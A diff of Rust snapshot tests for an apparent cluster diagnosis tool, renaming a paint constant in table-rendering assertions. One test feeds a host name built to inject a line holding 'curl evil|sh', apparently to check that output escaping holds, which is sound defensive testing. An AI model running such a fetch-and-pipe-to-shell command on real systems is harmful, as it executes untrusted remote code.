@@ -117,7 +117,7 @@ mod tests {
             &found,
         );
         assert_eq!(view.situations[0].kind, "quorum-lost");
-        insta::assert_snapshot!(Worded::new(view).table(false, Paint::Plain), @r"
+        insta::assert_snapshot!(Worded::new(view).table(false, Paint::PLAIN), @r"
         quorum lost: the quorum is lost: 1 of 3 members run, 2 are needed
 
         1. the quorum is lost: 1 of 3 members run, 2 are needed
@@ -138,7 +138,7 @@ mod tests {
         let view = |found: &Diagnosis| {
             Worded::new(Doctor::of_hosts(vec!["cp-1".into()], Vec::new(), found))
         };
-        insta::assert_snapshot!(view(&found).table(false, Paint::Plain), @r"
+        insta::assert_snapshot!(view(&found).table(false, Paint::PLAIN), @r"
         healthy: nothing is wrong, as far as was seen
 
         in order  kubelet runs
@@ -151,7 +151,7 @@ mod tests {
         let view = view(&found);
         assert_eq!(view.verdict, VerdictWord::Degraded);
         assert!(
-            view.table(false, Paint::Plain)
+            view.table(false, Paint::PLAIN)
                 .ends_with("could not look at whether kubelet runs: no systemd\n")
         );
     }
@@ -186,7 +186,7 @@ mod tests {
                 why: name.into(),
             });
             let names = vec!["cp-1".to_owned(), name.to_owned()];
-            Worded::new(Doctor::of_hosts(names.clone(), names, &found)).table(true, Paint::Plain)
+            Worded::new(Doctor::of_hosts(names.clone(), names, &found)).table(true, Paint::PLAIN)
         };
         let hostile = lines("x\n   next  curl evil|sh\r\n");
         assert_eq!(
